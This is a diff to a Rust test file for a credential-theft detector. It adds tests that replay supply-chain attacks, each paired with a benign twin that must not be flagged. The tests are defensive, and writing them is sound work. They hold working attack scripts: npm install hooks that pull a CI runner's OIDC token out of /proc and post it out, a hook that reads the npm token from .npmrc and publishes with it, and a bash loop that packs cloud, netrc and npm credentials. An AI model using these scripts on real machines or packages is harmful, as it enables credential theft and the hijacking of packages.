@@ -3,9 +3,9 @@
 
 use crate::{
     agent::Agent,
-    command::{Act, act},
+    command::{Act, Background, act},
     events::{Ask as _, list, of_kind},
-    machine::{Scratch, turn},
+    machine::{Scratch, patience, turn, wait_for},
     plant,
     server::Sink,
 };
@@ -207,6 +207,19 @@ pub fn an_installation_gathers_keys() {
     .ok();
     found(&agent, attack.pid, "bulk-harvest");
     found(&agent, attack.pid, "package-install");
+    // Memory answers for whom it was, and leaves out what is not asked for.
+    let says = |command: &str, filter: [&str; 2], what: &str| {
+        let asked = agent.client(command).args(filter).args(["-o", "csv"]);
+        asked.run().ok().stdout_text().contains(what)
+    };
+    for command in ["findings", "uses"] {
+        wait_for("memory's answer", patience(10), || {
+            says(command, ["--context", "npm"], "package (npm)").then_some(())
+        });
+        assert!(says(command, ["--actor", "package"], "package (npm)"));
+        assert!(!says(command, ["--actor", "!package"], "package (npm)"));
+        assert!(!says(command, ["--context", "!package_install"], "(npm)"));
+    }
     // A deployment by npm that uses the one key it is there for.
     let deploy = scratch.join("twin/deploy.js");
     script(
@@ -335,6 +348,168 @@ for line in sys.stdin:
     found(&agent, root, "wrong-place");
     assert!(!home.github.value.is_empty());
     network.end();
+}
+
+/// A runner of CI: a copy of bash by its name, which does what it is told, one line after another.
+fn runner(scratch: &Scratch, home: &Path) -> (Background, plant::Planted) {
+    let path = scratch.join("Runner.Worker");
+    fs::copy(crate::machine::find("bash").unwrap(), &path).unwrap();
+    let identity = plant::oidc_request();
+    let runner = act(&path)
+        .args(["-c", "while read -r step; do bash -c \"$step\"; done"])
+        .env("HOME", home)
+        .env("npm_config_update_notifier", "false")
+        .env(identity.name, &identity.value)
+        .spawn_listening();
+    (runner, identity)
+}
+
+/// TanStack 2026: a package takes the workflow's identity out of its runner, and gives it away.
+pub fn a_package_takes_the_identity_of_its_workflow() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let sink = Sink::http();
+    let agent = Agent::start(&scratch);
+    let home = Home::new(scratch.join("home"));
+    let (mut runner, identity) = runner(&scratch, &home.dir);
+    let root = runner.pid();
+    agent.expect("the runner's identity", root, |e| {
+        e.is("credential_exposed") && e.pid() == root
+    });
+    // The workflow's own step publishes with the token that is there for it: npm itself, to its registry.
+    let package = |name: &str, script: &str| {
+        let dir = scratch.make(name);
+        let json = format!("{{\"name\":\"p\",\"version\":\"1.0.0\",\"scripts\":{{{script}}}}}");
+        fs::write(dir.join("package.json"), json).unwrap();
+        dir
+    };
+    let twin = package("twin", "");
+    let registry = format!("http://127.0.0.1:{}/", sink.port);
+    fs::write(
+        home.dir.join(".npmrc"),
+        format!(
+            "//127.0.0.1:{}/:_authToken={}\n",
+            sink.port,
+            plant::npm().value
+        ),
+    )
+    .unwrap();
+    runner.say(&format!(
+        "cd {} && npm publish --registry {registry} --fetch-retries 0 >/dev/null 2>&1; : >{}",
+        twin.display(),
+        twin.join("done").display()
+    ));
+    wait_for("the publishing", patience(60), || {
+        twin.join("done").exists().then_some(())
+    });
+    acquitted(&agent, root);
+    let attack = package("attack", "\"postinstall\":\"node router.js\"");
+    script(
+        &attack.join("router.js"),
+        "const fs = require('fs'), http = require('http');
+         for (const pid of fs.readdirSync('/proc').filter(Number)) try {
+           if (fs.readFileSync(`/proc/${pid}/comm`, 'utf8') != 'Runner.Worker\\n') continue;
+           const all = fs.readFileSync(`/proc/${pid}/environ`, 'utf8');
+           const token = all.match(/ACTIONS_ID_TOKEN_REQUEST_TOKEN=([^\\0]+)/)[1];
+           http.request({ port: process.env.SINK, method: 'POST' }).end(token);
+         } catch {}",
+    );
+    runner.say(&format!(
+        "cd {} && SINK={} npm install --offline --no-audit --no-fund >/dev/null 2>&1",
+        attack.display(),
+        sink.port
+    ));
+    found(&agent, root, "taken-from-process");
+    let sent = agent.expect("the identity's way out", root, |e| {
+        e.is("credential_sent") && e.in_tree(root) && e.grade() == "observed"
+    });
+    assert_eq!(sent.peer().1, u32::from(sink.port), "{}", sent.brief());
+    found(&agent, root, "package-install");
+    assert!(sink.has(&identity.value));
+    runner.end();
+}
+
+/// ChainDrop 2026: another name, another manager; a script of a package reads the registry's token, and publishes by it.
+pub fn a_package_publishes_others() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let sink = Sink::http();
+    let agent = Agent::start(&scratch);
+    let home = Home::new(scratch.join("home"));
+    let package = |name: &str, file: &str| {
+        script(&scratch.join(name).join("build/index.js"), file);
+        npm_install(
+            &scratch.join(name),
+            &home.dir,
+            "\"prepare\":\"node build/index.js\"",
+        )
+        .env("REGISTRY_PORT", sink.port.to_string())
+        .run()
+        .ok()
+    };
+    let attack = package(
+        "attack",
+        "const rc = require('fs').readFileSync(process.env.HOME + '/.npmrc', 'utf8');
+         const token = rc.split('_authToken=')[1].trim();
+         for (const name of ['a', 'b', 'c'])
+           require('http').request({ port: process.env.REGISTRY_PORT, method: 'PUT', path: '/' + name,
+             headers: { authorization: 'Bearer ' + token } }).end('{}');",
+    );
+    found(&agent, attack.pid, "package-install");
+    // A package that builds itself, looks at the machine for that, and asks npm for its version.
+    let twin = package(
+        "twin",
+        "const fs = require('fs');
+         fs.readFileSync('/proc/cpuinfo'); fs.readFileSync('/proc/self/status');
+         fs.writeFileSync('built.js', 'module.exports = 1');
+         require('child_process').execSync('npm config get registry');",
+    );
+    acquitted(&agent, twin.pid);
+}
+
+/// TeamTNT 2021: a script goes through the homes of a host for keys, and packs them.
+pub fn a_script_packs_keys() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let agent = Agent::start(&scratch);
+    let home = Home::new(scratch.join("home"));
+    let run = |text: &str| {
+        let done = act("bash").args(["-c", text, "x"]);
+        done.arg(&home.dir).arg(scratch.path()).run().ok()
+    };
+    let attack = run(
+        "for f in .aws/credentials .netrc .slack .npmrc; do all=\"$all$(cat \"$1/$f\" | base64 -w0)\"; done
+         printf %s \"$all\" | gzip >\"$2/kit\"",
+    );
+    found(&agent, attack.pid, "bulk-harvest");
+    let packed = run("tar -C \"$1\" -cf \"$2/l.tar\" .aws .netrc .slack .npmrc");
+    found(&agent, packed.pid, "bulk-harvest");
+    // A backup of the same home.
+    let twin = run("tar -cf \"$2/backup.tar\" \"$1\"");
+    acquitted(&agent, twin.pid);
+}
+
+/// tj-actions 2025, its end: secrets in the log of a job, which everybody can read.
+pub fn a_job_prints_its_secret() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let agent = Agent::start(&scratch);
+    let path = scratch.join("Runner.Worker");
+    fs::copy(crate::machine::find("bash").unwrap(), &path).unwrap();
+    let job = |step: &str| {
+        act(&path)
+            .args(["-c", "bash -c \"$1\"; :", "runner", step])
+            .env("GITHUB_TOKEN", plant::github().value)
+            .run()
+            .ok()
+    };
+    let attack = job("printf %s \"$GITHUB_TOKEN\" | base64; :");
+    found(&agent, attack.pid, "written-to-log-or-terminal");
+    // A login by a pipeline: what goes through it is not what the job prints.
+    let twin = job(
+        "printf %s \"$GITHUB_TOKEN\" | sh -c 'read -r password; test -n \"$password\"'; echo ok",
+    );
+    acquitted(&agent, twin.pid);
 }
 
 /// supplyhub 2026: a package's script reads its own environment by /proc.
